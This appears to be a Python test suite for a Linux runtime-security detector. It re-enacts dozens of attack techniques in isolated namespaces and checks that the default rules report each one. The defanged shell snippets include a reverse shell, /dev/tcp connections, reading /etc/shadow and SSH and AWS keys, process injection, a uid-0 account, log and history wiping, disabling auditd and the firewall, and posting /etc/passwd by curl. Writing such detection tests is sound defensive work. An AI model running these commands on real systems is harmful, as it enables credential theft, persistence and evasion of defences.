#!/usr/bin/env python3
"""Re-enacts attacks, without harm, and looks whether the default rules report them.

    attacks.py [--gyr PATH] [WORD]     WORD: only attacks whose name contains it

Each is a few lines of shell in a mount namespace of its own, where the folders that are written lie
under fresh file systems, and /etc under a layer that takes all changes. Beside each stand the rules
that must report it; an alert of another rule is a failure as well.
"""

import json
import shlex
import sys
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).parent / "support"))
import bench  # noqa: E402
from bench import expect  # noqa: E402

RULES = bench.ROOT / "rules" / "default"

LAYER = ("mount -t tmpfs none /mnt; mkdir /mnt/upper /mnt/work; mount -t overlay none -o "
         "lowerdir=/etc,upperdir=/mnt/upper,workdir=/mnt/work /etc; ")
# An empty file system over a folder, for this namespace only.
COVER = 'cover() { for d; do mount -t tmpfs none "$d"; done; }; '
# Programs where they may lie, under any name.
INSTALL = ('PATH=/usr/local/bin:$PATH; cover /usr/local/bin;'
           'install() { cp "$(readlink -f "$1")" "/usr/local/bin/$2"; }; ')
# A copy of a file where it may be changed.
LOOSE = 'loose() { cp "$1" copy; mount --bind copy "$1"; }; '

ATTACKS = {
    "reverse_shell": (
        """/usr/bin/python3 -c '
import socket, os
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
if os.fork():
    c = s.accept()[0]; c.sendall(b"exit\\n"); os.wait()
else:
    c = socket.create_connection(s.getsockname())
    for n in 0, 1, 2:
        os.dup2(c.fileno(), n)
    os.execv("/bin/sh", ["sh", "-i"])
'""",
        {"Shell with a network connection as its input",
         "Standard input redirected to a network connection",
         "Remote shell in one line"}),
    "bash_dev_tcp": (
        "exec 3>&1; bash -c 'exec 5<>/dev/tcp/127.0.0.1/9' 2>/dev/null || true",
        {"Network connection opened by a shell"}),
    "shell_of_a_server": (
        INSTALL + "install /usr/bin/perl nginx; nginx -e 'system(\"id; true\")' >/dev/null",
        {"Shell started by a server program", "System looked over from a server program"}),
    "shared_memory": (
        "cover /dev/shm; cp /bin/true /dev/shm/t; /dev/shm/t",
        {"Program run from shared memory or a hidden temporary folder"}),
    "temporary_folder": (
        "cover /tmp; cp /bin/true /tmp/t; /tmp/t; printf '#!/bin/sh\\n:\\n' >/tmp/s;"
        "chmod +x /tmp/s; cd /tmp; ./s",
        {"Program run from a temporary folder"}),
    "memory": (
        """/usr/bin/python3 -c '
import os
f = os.memfd_create("payload", 0)
os.write(f, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % f, ["[kworker/0:1]"])
'""",
        {"Program run from memory or a descriptor",
         "Program disguised as a kernel thread"}),
    "removed_file": (
        """/usr/bin/python3 -c '
import os, shutil
shutil.copy("/bin/true", "/mnt/t"); f = os.open("/mnt/t", os.O_RDONLY); os.unlink("/mnt/t")
os.execv("/proc/self/fd/%d" % f, ["t"])
'""",
        {"Program run from memory or a descriptor"}),
    "piped": (
        "echo : | base64 | base64 -d | sh; sh -c 'echo Og== | base64 -d | sh'",
        {"Download or decoded text given to a shell", "Interpreter reads its program from a pipe"}),
    "miner": (
        INSTALL + "install /bin/true xmrig; xmrig -o stratum+tcp://pool.invalid:3333",
        {"Crypto miner started"}),
    "passwords": (
        "cat /etc/shadow >/dev/null; ln -s /etc/shadow s; cat s >/dev/null; ln /etc/shadow /etc/s",
        {"Password file read", "Link made to a sensitive file"}),
    "keys": (
        "cover /root; mkdir /root/.ssh /root/.aws; touch /root/.ssh/id_rsa /root/.aws/credentials;"
        "cat /root/.ssh/id_rsa /root/.aws/credentials; find /root -name id_rsa >/dev/null;"
        "find / -maxdepth 1 -perm -4000",
        {"SSH private key read", "Stored credentials viewed or copied",
         "Search for keys and passwords", "Search for ways to become root"}),
    "memory_of_others": (
        """sleep 5 & /usr/bin/python3 -c '
import os, sys
m = open("/proc/" + sys.argv[1] + "/mem", "r+b", 0)
' $!; kill $!; cat /proc/self/environ >/dev/null""",
        {"Memory of another process read", "Code put into another process",
         "Environment of a process viewed"}),
    "ptrace": (
        """sleep 5 & /usr/bin/python3 -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True); pid = int(sys.argv[1])
libc.ptrace.argtypes = [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
libc.ptrace(16, pid, None, None); os.waitpid(pid, 0x40000000)
regs = ctypes.create_string_buffer(512)
libc.ptrace(12, pid, None, regs); libc.ptrace(13, pid, None, regs); libc.ptrace(17, pid, None, None)
' $!; kill $!""",
        {"Process attached to", "Code put into another process"}),
    "traced_by_nobody": (
        "/usr/bin/python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'",
        {"Program guards itself against debuggers"}),
    "metadata_service": (
        """/usr/bin/python3 -c '
import socket
s = socket.socket(); s.setblocking(False); s.connect_ex(("169.254.169.254", 80))
'""",
        {"Cloud metadata service contacted"}),
    "authorized_keys": (
        "cover /root; mkdir /root/.ssh; echo key >>/root/.ssh/authorized_keys;"
        "echo key >k; cp k /root/.ssh/k; mv /root/.ssh/k /root/.ssh/authorized_keys",
        {"SSH authorized keys changed"}),
    "start_again": (
        "cover /root; mkdir -p /etc/cron.d /etc/systemd/system;"
        "echo '* * * * * root true' >/etc/cron.d/t; echo >/etc/systemd/system/t.service;"
        "echo : >>/root/.bashrc; echo >/etc/apt/apt.conf.d/t",
        {"Scheduled job planted", "Service or start script planted",
         "Start of every shell changed", "System hook or boot files changed"}),
    "accounts": (
        "echo >/etc/pam.d/t; echo >>/etc/passwd; mkdir -p /etc/sudoers.d; echo >/etc/sudoers.d/t;"
        "useradd -u 0 -o --help >/dev/null;"
        "usermod -aG sudo --help >/dev/null",
        {"Login checks changed", "Account files written directly", "Rights for sudo changed",
         "Account with root's rights made"}),
    "replaced_program": (
        "loose /usr/bin/shred; cat /bin/true >/usr/bin/shred",
        {"Program of the system replaced"}),
    "script_of_a_web_server": (
        INSTALL + "install /usr/bin/perl nginx; nginx -e 'open(F, \">shell.php\")'",
        {"Server program writes a script"}),
    "set_uid": (
        "cp /bin/true t; chmod u+s t; setcap cap_setuid+ep t",
        {"Set-uid bit given to a file", "Capabilities given to a file"}),
    "preload": (
        "touch /etc/ld.so.preload; cover /tmp;"
        "cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/l.so; LD_PRELOAD=/tmp/l.so /bin/true",
        {"Library forced on every program", "Library from a temporary folder forced on a program"}),
    "user_namespace": (
        "unshare -U true",
        {"User namespace made"}),
    "logs": (
        "cover /var/log; touch /var/log/auth.log; : >/var/log/auth.log; rm /var/log/auth.log",
        {"Log emptied or removed"}),
    "history": (
        "cover /root; touch /root/.bash_history; : >/root/.bash_history; rm /root/.bash_history;"
        "ln -s /dev/null /root/.bash_history; HISTFILE=/dev/null bash -c :",
        {"Command history erased or switched off"}),
    "switched_off": (
        INSTALL + "for p in systemctl iptables; do install /bin/true $p; done;"
        "systemctl stop auditd; iptables -F",
        {"Security service or protection switched off"}),
    "kernel_name": (
        "/usr/bin/python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b\"kworker/1:2\", 0, 0)'",
        {"Program disguised as a kernel thread"}),
    "wrong_place": (
        "cover /tmp; cp /bin/true /tmp/sshd; /tmp/sshd; cp /bin/rm /tmp/t; /tmp/t /tmp/t",
        {"System program's name on a program elsewhere", "Program run from a temporary folder",
         "Program removes its own file"}),
    "among_devices": (
        "touch /dev/gyr-test; rm /dev/gyr-test",
        {"File made among the devices"}),
    "times": (
        INSTALL + "touch f; touch -r /bin/ls f; install /bin/true chattr; chattr +i f",
        {"Times of a file set to deceive", "File made immutable"}),
    "packets": (
        "/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)'",
        {"Packets of the network listened to"}),
    "tools": (
        INSTALL + "for t in nmap chisel; do install /bin/true $t; $t; done;"
        "curl -s -m 1 -F f=@/etc/passwd http://127.0.0.1:9/ || true",
        {"Network scanner or password guesser run", "Tunnel tool run",
         "File of the system sent away"}),
    "netcat": (
        INSTALL + """install /usr/bin/python3 nc; nc -c '
import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); socket.create_connection(s.getsockname())
'""",
        {"Raw connection made or awaited with netcat"}),
    "destruction": (
        "touch f; shred -u f; touch g; mv g g.lockbit; : >HOW_TO_DECRYPT_FILES.txt",
        {"Data destroyed by command", "Files renamed or notes left as by ransomware"}),
    "release_agent": (
        "mkdir c; touch c/release_agent; echo >c/release_agent",
        {"Kernel's helper program changed"}),
    "kernel_program": (
        """/usr/bin/python3 -c '
import ctypes, struct
code = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)
code = ctypes.create_string_buffer(code); name = ctypes.create_string_buffer(b"GPL")
attr = struct.pack("<IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(name)).ljust(128, b"\\0")
print(ctypes.CDLL(None).syscall(321, 5, ctypes.create_string_buffer(attr), 128))
' >/dev/null""",
        {"Program loaded into the kernel"}),
}

# They run in a cgroup whose path is one of Docker's.
CONTAINER = {
    "mount": ("mkdir m; mount -t tmpfs none m", {"Mount made inside a container"}),
    "enters_namespace": ("nsenter -t $$ -u true", {"Another namespace entered"}),
    "engine": (
        """/usr/bin/python3 -c '
import socket
s = socket.socket(socket.AF_UNIX); s.bind("/mnt/docker.sock"); s.listen()
socket.socket(socket.AF_UNIX).connect("/mnt/docker.sock")
'""",
        {"Container engine's socket used"}),
    "handle": (
        """/usr/bin/python3 -c '
import ctypes, os, struct
libc = ctypes.CDLL(None)
handle = ctypes.create_string_buffer(struct.pack("<I", 128).ljust(136, b"\\0"))
mount = ctypes.c_int()
libc.name_to_handle_at(-100, b"/bin/true", handle, ctypes.byref(mount), 0)
libc.open_by_handle_at(os.open("/", 0), handle, 0)
'""",
        {"File opened by its handle inside a container"}),
}


def enacted(b, script, wanted, before=""):
    program = "set -e; " + LAYER + COVER + LOOSE + before + script
    b.run("-w", "attack.scap", "--", "unshare", "-m", "sh", "-c", program)
    found = {json.loads(line)["rule"]
             for line in b.lines("scan", "-r", RULES, "--format", "json", "attack.scap")}
    expect(found == wanted, f"missing: {sorted(wanted - found)}",
           f"beside: {sorted(found - wanted)}")


def attack(name, script, wanted):
    def check(b):
        enacted(b, script, wanted)
    check.__name__ = name
    return check


def attack_in_container(name, script, wanted):
    def check(b):
        group = Path("/sys/fs/cgroup/memory")
        group = (group if group.is_dir() else group.parent) / "docker" / ("5e" * 32)
        group.mkdir(parents=True, exist_ok=True)
        try:
            enacted(b, f"sh -c {shlex.quote(script)}", wanted,
                    f"echo $$ >{group}/cgroup.procs; ")
        finally:
            group.rmdir()
            if not any(child.is_dir() for child in group.parent.iterdir()):
                group.parent.rmdir()
    check.__name__ = "container_" + name
    return check


CHECKS = ([attack(name, *rest) for name, rest in ATTACKS.items()]
          + [attack_in_container(name, *rest) for name, rest in CONTAINER.items()])

if __name__ == "__main__":
    sys.exit(bench.main("attack", CHECKS))
